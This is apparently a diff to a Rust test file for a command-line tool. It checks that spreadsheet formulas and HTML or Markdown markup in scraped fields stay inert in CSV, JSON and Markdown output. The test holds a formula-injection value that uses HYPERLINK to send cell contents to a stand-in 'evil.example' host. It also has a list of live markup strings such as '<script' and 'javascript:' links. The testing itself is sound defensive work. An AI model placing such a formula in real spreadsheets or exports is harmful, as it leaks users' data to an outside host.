@@ -250,6 +250,20 @@ fn formulas_and_markup_in_fields_are_inert_in_csv_and_exact_in_json() {
         row["name"],
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
     );
+
+    // Markdown for a memo: no live HTML, no link or emphasis made out of a scraped field.
+    let out = faralink(&db)
+        .args(["show", "9001", "--markdown"])
+        .assert()
+        .success();
+    let memo = stdout_of(&out);
+    assert!(memo.contains("&lt;script&gt;"), "{memo}");
+    for live in ["<script", "<img", "](javascript:", "**bold**"] {
+        assert!(
+            !memo.contains(live),
+            "{live:?} is live in the memo:\n{memo}"
+        );
+    }
 }
 
 #[test]
